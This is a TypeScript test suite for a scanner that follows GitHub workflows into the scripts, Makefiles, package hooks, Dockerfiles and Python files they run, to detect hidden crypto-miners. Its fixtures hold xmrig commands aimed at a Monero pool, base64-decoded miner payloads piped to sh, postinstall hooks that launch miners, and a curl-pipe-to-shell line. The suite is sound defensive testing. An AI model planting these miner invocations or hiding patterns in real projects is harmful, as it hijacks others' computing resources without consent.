// biome-ignore-all lint/suspicious/noTemplateCurlyInString: workflows and shells write so.
/**
 * A workflow is judged together with the files of its tree that it runs, whatever runs them: the
 * words of a miner stand in the other file, or half here and half there.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { READERS } from '../src/providers/registry.ts';
import { createScanner } from '../src/scanner/scanner.ts';
import { testAddress } from '../src/scanner/wallet/test-addresses.ts';

const W = testAddress('monero', 1);
const P = 'pool.supportxmr.com:443';
const APP = `./app -o ${P}`;
const LIST = `"./app","-o","${P}","-u"`;
const MINE = `./xmrig -o ${P} -u ${W}.w1 -p x`;
const WORKFLOW = '.github/workflows/ci.yml';

const scanner = createScanner({ readers: READERS });
const b64 = (text: string): string => Buffer.from(text).toString('base64');
const pkg = (scripts: Readonly<Record<string, string>>): string => JSON.stringify({ scripts });

type Tree = Readonly<Record<string, string>>;

/** Steps stand between lines of `---`. */
function workflow(script: string, environment: string): string {
  const steps = script.split('\n---\n').map((step) => {
    const lines = step.split('\n').map((line) => `          ${line}`);
    return `      - run: |\n${lines.join('\n')}\n`;
  });
  const head = 'on: push\n';
  const job = 'jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
  return `${head}${environment}${job}      - uses: actions/checkout@v4\n${steps.join('')}`;
}

function scan(script: string, tree: Tree, environment = '') {
  const reader = scanner.readerFor(WORKFLOW);
  assert.ok(reader);
  const text = workflow(script, environment);
  return scanner.scanFile(reader, WORKFLOW, text, (path) => tree[path] ?? null);
}

const POD = `apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:
    - {name: a, image: x, command: [sh, -c, "${MINE}"]}\n`;
const CONFIG = `{"donate-level":0,"pools":[{"url":"203.0.113.5:443","user":"${W}"}]}`;
const ENV_W = `env:\n  W: ${W}\n`;

type Case = readonly [what: string, script: string | readonly [string, string], tree: Tree];

const CASES: readonly Case[] = [
  ['./x.sh', './x.sh', { 'x.sh': MINE }],
  ['bash x', 'bash x', { x: MINE }],
  ['source vars', '. ./vars\n./app -o $P -u $W -p x', { vars: `P=${P}\nW=${W}` }],
  ['source vars2', 'source ci/vars.sh\nmine', { 'ci/vars.sh': `mine() { ${APP} -u ${W} -p x; }` }],
  ['args', `./x.sh ${W}`, { 'x.sh': `${APP} -u $1 -p x` }],
  ['args@', `./x.sh -o ${P} -u ${W} -p x`, { 'x.sh': `exec ./app "$@"` }],
  ['env', ['./x.sh', ENV_W], { 'x.sh': `${APP} -u $W -p x` }],
  ['export', `export W=${W}\n./x.sh`, { 'x.sh': `${APP} -u $W -p x` }],
  ['prefix env', `W=${W} ./x.sh`, { 'x.sh': `${APP} -u $W -p x` }],
  ['cd', 'cd sub && ./x.sh', { 'sub/x.sh': MINE }],
  ['cd2', 'cd sub\n./x.sh', { 'sub/x.sh': './y.sh', 'sub/y.sh': MINE }],
  ['sudo -u', 'sudo -u a bash y', { y: MINE }],
  ['chmod', 'chmod +x x; ./x', { x: MINE }],
  ['find exec', 'find . -name x.sh -exec sh {} \\;', { 'x.sh': MINE }],
  ['xargs', 'echo x.sh | xargs bash', { 'x.sh': MINE }],
  ['xargs2', 'echo x.sh | xargs -I{} bash {}', { 'x.sh': MINE }],
  ['py', 'python tool.py', { 'tool.py': `import os\nos.system("${MINE}")` }],
  ['py none', 'python3 tool', { tool: `import os\nos.system("${MINE}")` }],
  [
    'py env',
    ['python3 tool.py', ENV_W],
    {
      'tool.py': `import os,subprocess as s\ns.run([${LIST},os.environ["W"],"-p","x"])`,
    },
  ],
  [
    'py argv',
    `python3 tool.py ${W}`,
    {
      'tool.py': `import sys,subprocess as s\ns.run([${LIST},sys.argv[1],"-p","x"])`,
    },
  ],
  [
    'py b64',
    'python3 tool.py',
    { 'tool.py': `import base64,os\nos.system(base64.b64decode('${b64(MINE)}').decode())` },
  ],
  ['py -m', 'python -m pkg', { 'pkg/__main__.py': `import os\nos.system("${MINE}")` }],
  ['py -m2', 'python -m pkg.run', { 'pkg/run.py': `import os\nos.system("${MINE}")` }],
  ['node', 'node x.js', { 'x.js': `require('child_process').execSync('${MINE}')` }],
  ['ruby', 'ruby x.rb', { 'x.rb': `system("${MINE}")` }],
  ['perl', 'perl x.pl', { 'x.pl': `system("${MINE}");` }],
  ['php', 'php x.php', { 'x.php': `<?php shell_exec("${MINE}");` }],
  ['npm run', 'npm run x', { 'package.json': pkg({ x: MINE }) }],
  ['npm run args', `npm run x -- -u ${W}`, { 'package.json': pkg({ x: `./app -o ${P} -p x` }) }],
  ['npm pre', 'npm test', { 'package.json': pkg({ pretest: MINE, test: 'jest' }) }],
  [
    'npm ci',
    'npm ci',
    {
      'package.json': pkg({ postinstall: 'node s.js' }),
      's.js': `require('child_process').exec('${MINE}')`,
    },
  ],
  ['npm env', ['npm run x', ENV_W], { 'package.json': pkg({ x: `${APP} -u $W -p x` }) }],
  ['yarn x', 'yarn x', { 'package.json': pkg({ x: MINE }) }],
  ['yarn', 'yarn', { 'package.json': pkg({ postinstall: MINE }) }],
  ['pnpm -C', 'pnpm -C sub run x', { 'sub/package.json': pkg({ x: MINE }) }],
  ['npx', 'npx ./t.js', { 't.js': `require('child_process').exec('${MINE}')` }],
  ['make', 'make check', { Makefile: `check: dep\n\techo ok\ndep:\n\t${MINE}\n` }],
  ['make var', `make check W=${W}`, { Makefile: `check:\n\t${APP} -u $(W) -p x\n` }],
  ['make env', [`make check`, ENV_W], { Makefile: `W ?= none\ncheck:\n\t${APP} -u $(W) -p x\n` }],
  ['make -C -f', 'make -C sub -f mk run', { 'sub/mk': `run:\n\t${MINE}\n` }],
  [
    'make sub',
    'make',
    { Makefile: `all:\n\t$(MAKE) -C sub\n`, 'sub/Makefile': `all:\n\t${MINE}\n` },
  ],
  ['docker build', 'docker build -t x .', { Dockerfile: `FROM alpine\nRUN ${MINE}\n` }],
  [
    'docker build -f',
    'docker build -f ci/d.docker ci',
    { 'ci/d.docker': `FROM alpine\nRUN ${MINE}\n` },
  ],
  [
    'docker build arg',
    `docker build --build-arg W=${W} .`,
    { Dockerfile: `FROM alpine\nARG W\nRUN ${APP} -u $W -p x\n` },
  ],
  ['docker made', `cat > Dockerfile <<EOF\nFROM alpine\nRUN ${MINE}\nEOF\ndocker build .`, {}],
  ['docker stdin', `docker build - <<EOF\nFROM alpine\nRUN ${MINE}\nEOF`, {}],
  [
    'compose',
    'docker compose up -d',
    { 'docker-compose.yml': `services:\n  a:\n    image: alpine\n    command: ${MINE}\n` },
  ],
  ['kubectl', 'kubectl apply -f k.yml', { 'k.yml': POD }],
  [
    'ansible',
    'ansible-playbook p.yml',
    { 'p.yml': `- hosts: all\n  tasks:\n    - shell: ${MINE}\n` },
  ],
  ['tox', 'tox', { 'tox.ini': `[testenv]\ncommands = ${MINE}\n` }],
  ['just', 'just mine', { justfile: `mine:\n  ${MINE}\n` }],
  [
    'setup.py made',
    `cat > setup.py <<EOF\nimport os\nos.system('./xm' + '${MINE.replace('./xm', '')}')\nEOF\npip install .`,
    {},
  ],
  ['justfile made', `printf 'mine:\\n  %s\\n' '${MINE}' > justfile\njust mine`, {}],
  ['make made by any name', `printf 'mine:\\n\\t%s\\n' '${MINE}' > a.b\nmake -f a.b mine`, {}],
  [
    'compose stdin',
    `docker compose -f - up <<EOF\nservices:\n  a:\n    image: alpine\n    command: ${MINE}\nEOF`,
    {},
  ],
  ['data b64', 'base64 -d data.txt | sh', { 'data.txt': b64(MINE) }],
  [
    'data cat',
    'cat a.txt b.txt | base64 -d | bash',
    { 'a.txt': b64(MINE).slice(0, 40), 'b.txt': b64(MINE).slice(40) },
  ],
  ['wallet file', `${APP} -u $(cat w.txt) -p x`, { 'w.txt': W }],
  ['step written', `echo ${b64(MINE)} > f\n---\nbase64 -d f > g\n---\nsh g`, {}],
  [
    'dirname',
    'ci/run.sh',
    { 'ci/run.sh': '#!/bin/bash\ncd "$(dirname "$0")"\n./go.sh', 'ci/go.sh': MINE },
  ],
  [
    'BASH_SOURCE',
    'ci/run.sh',
    {
      'ci/run.sh': 'D="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n"$D/go.sh"',
      'ci/go.sh': MINE,
    },
  ],
  [
    'selfarg',
    `./x.sh`,
    { 'x.sh': `if [ "$1" = go ]; then ${APP} -u $2 -p x; else $0 go ${W}; fi` },
  ],
  ['env expr', ['./app -o $P -u ${{ env.W }} -p x', `env:\n  W: ${W}\n  P: ${P}\n`], {}],
  ['config split', './x.sh\n./app -c c.json', { 'x.sh': `cat > c.json <<EOF\n${CONFIG}\nEOF` }],
  ['rename split', `./x.sh\n./httpd -o 203.0.113.5:443 -u ${W}`, { 'x.sh': 'mv xmrig httpd' }],
  ['abs', 'bash /home/runner/work/r/r/ci/x.sh', { 'ci/x.sh': MINE }],
  ['loop', 'for f in a b; do bash ci/$f.sh; done', { 'ci/b.sh': MINE }],
  [
    'deep',
    './a.sh',
    {
      'a.sh': './b.sh',
      'b.sh': './c.sh',
      'c.sh': 'python d.py',
      'd.py': `import os; os.system('${MINE}')`,
    },
  ],
];

for (const [what, run, tree] of CASES) {
  test(`followed: ${what}`, () => {
    const [script, environment] = typeof run === 'string' ? [run, ''] : run;
    const reports = scan(script, tree, environment);
    assert.equal(reports[0]?.verdict, 'confirmed', JSON.stringify(reports, null, 1));
  });
}

test('the chain is told from the outside in', () => {
  const tree = { 'a.sh': 'make -C lib go', 'lib/Makefile': 'go:\n\tpython3 tool.py\n' };
  const code = `import os\nos.system('${MINE}')\n`;
  const reports = scan('./a.sh', { ...tree, 'lib/tool.py': code });
  const chain = [WORKFLOW, 'a.sh', 'lib/Makefile', 'lib/tool.py'];
  const finding = reports[0]?.findings.find(({ rule }) => rule === 'pool-endpoint');
  assert.deepEqual(finding?.via, chain);
  assert.equal(finding.location.path, 'lib/tool.py');
  assert.equal(finding.location.line, 2);
  assert.deepEqual(
    reports.map(({ path, verdict, via }) => [path, verdict, via?.length ?? 0]),
    [WORKFLOW, 'a.sh', 'lib/Makefile', 'lib/tool.py'].map((path, i) => {
      return [path, 'confirmed', i === 0 ? 0 : i + 1];
    }),
  );
});

test('what does not run is not judged as run', () => {
  const makefile = `check:\n\techo ok\nmine:\n\t${MINE}\n`;
  assert.equal(scan('make check', { Makefile: makefile })[0]?.verdict, 'clear');
  const scripts = pkg({ test: 'jest', mine: MINE });
  assert.equal(scan('npm test', { 'package.json': scripts })[0]?.verdict, 'clear');
  const library = `go() { ${MINE}; }`;
  assert.equal(scan('cat lib.sh', { 'lib.sh': library })[0]?.verdict, 'clear');
});

test('what lies outside, or is no text, is unchecked by its name', () => {
  const unchecked = (script: string, tree: Tree = {}): string =>
    scan(script, tree)[0]?.unchecked.join('; ') ?? '';
  assert.match(unchecked('kubectl apply -f https://a.test/x.yml'), /applies https:\/\/a\.test/);
  assert.match(unchecked('docker build https://a.test/x.git'), /builds https:\/\/a\.test/);
  assert.match(unchecked('bash ci/*.sh'), /runs ci\/\*\.sh/);
  assert.match(unchecked('python3 tool'), /runs tool/);
  assert.match(unchecked('./tool', { tool: '\u007fELF\0\0' }), /tool, a program of 6 bytes/);
  assert.equal(unchecked('npm ci && npm test && make && docker build .'), '');
});

test('a file that another one runs tells what of itself was not read', () => {
  const [first, second] = scan('./a.sh', { 'a.sh': 'curl https://a.test/x | sh' });
  assert.equal(first?.verdict, 'unchecked');
  assert.deepEqual(second?.via, [WORKFLOW, 'a.sh']);
  assert.equal(second.verdict, 'unchecked');
});

test('words that are appended to a script stand at its end', () => {
  const tree = { 'package.json': pkg({ x: 'true;' }) };
  const [report] = scan(`npm run x -- ${MINE}`, tree);
  assert.equal(report?.verdict, 'confirmed');
});

const NAMES = ['a.sh', 'lib/b.sh', 'Makefile', 'package.json', 'x.py', 'Dockerfile', 'compose.yml'];
const PIECES = [
  ...[MINE, MINE, './x stratum+tcp://a.test:1 ', Buffer.from(MINE).toString('base64')],
  ...[
    './a.sh ',
    '. lib/b.sh\n',
    'make ',
    'make -C lib ',
    'npm test',
    'npm run x -- ',
    'python3 x.py ',
  ],
  ...[
    'docker build . ',
    'docker compose up\n',
    'cd lib\n',
    'f() { ',
    '}\n',
    'f "$@"\n',
    '$(cat x.py)',
  ],
  ...[
    'all:\n\t',
    'include lib/b.sh\n',
    '{"scripts":{"test":"',
    '"}}',
    'import os\nos.system("',
    '")\n',
  ],
  ...[
    'FROM a\nRUN ',
    'services:\n  a:\n    command: ',
    'base64 -d a.sh | sh\n',
    '"',
    "'",
    '$A',
    '\n',
  ],
  ...[
    'W=x ',
    'export W\n',
    'cat > a.sh <<E\n',
    'E\n',
    '$0 ',
    '${{ env.A }}',
    '\0',
    '\u2028',
    ';',
    '&',
  ],
];

test('trees whose files run one another in any way are judged, each file in its own bounds', () => {
  const text = fc.array(fc.constantFrom(...PIECES), { maxLength: 12 }).map((all) => all.join(''));
  const tree = fc.dictionary(fc.constantFrom(...NAMES), text);
  fc.assert(
    fc.property(text, tree, (script, files) => {
      for (const report of scan(script.replaceAll('\n---\n', '\n'), files)) {
        for (const { location, via } of report.findings) {
          assert.ok(location.line >= 1 && location.endLine >= location.line);
          assert.ok(via === undefined || via.length > 1);
        }
      }
    }),
    { numRuns: Number(process.env['FUZZ_RUNS'] ?? 100) * 3 },
  );
});

test('a tree that asks for much work gets a second or two', () => {
  const many = (line: (i: number) => string): string =>
    Array.from({ length: 10_000 }, (_, i) => line(i)).join('\n');
  const dockerfile = `FROM a\n${'RUN echo $A\n'.repeat(15_000)}`;
  const trees: readonly (readonly [script: string, tree: Tree])[] = [
    [
      many((i) => `make t W=${i} X=${MINE}`),
      { Makefile: `${'A := $(B)\n'.repeat(90_000)}t:\n\techo` },
    ],
    [many((i) => `docker build --build-arg A=${i} .`), { Dockerfile: dockerfile }],
  ];
  for (const [script, tree] of trees) {
    const started = process.cpuUsage();
    const reports = scan(`eval true\n${script}`, tree);
    const { user, system } = process.cpuUsage(started);
    assert.ok(user + system < 5_000_000, `${user + system} µs for ${script.slice(0, 20)}`);
    assert.ok(reports[0]?.unchecked.some((sentence) => sentence.includes('work')));
  }
});
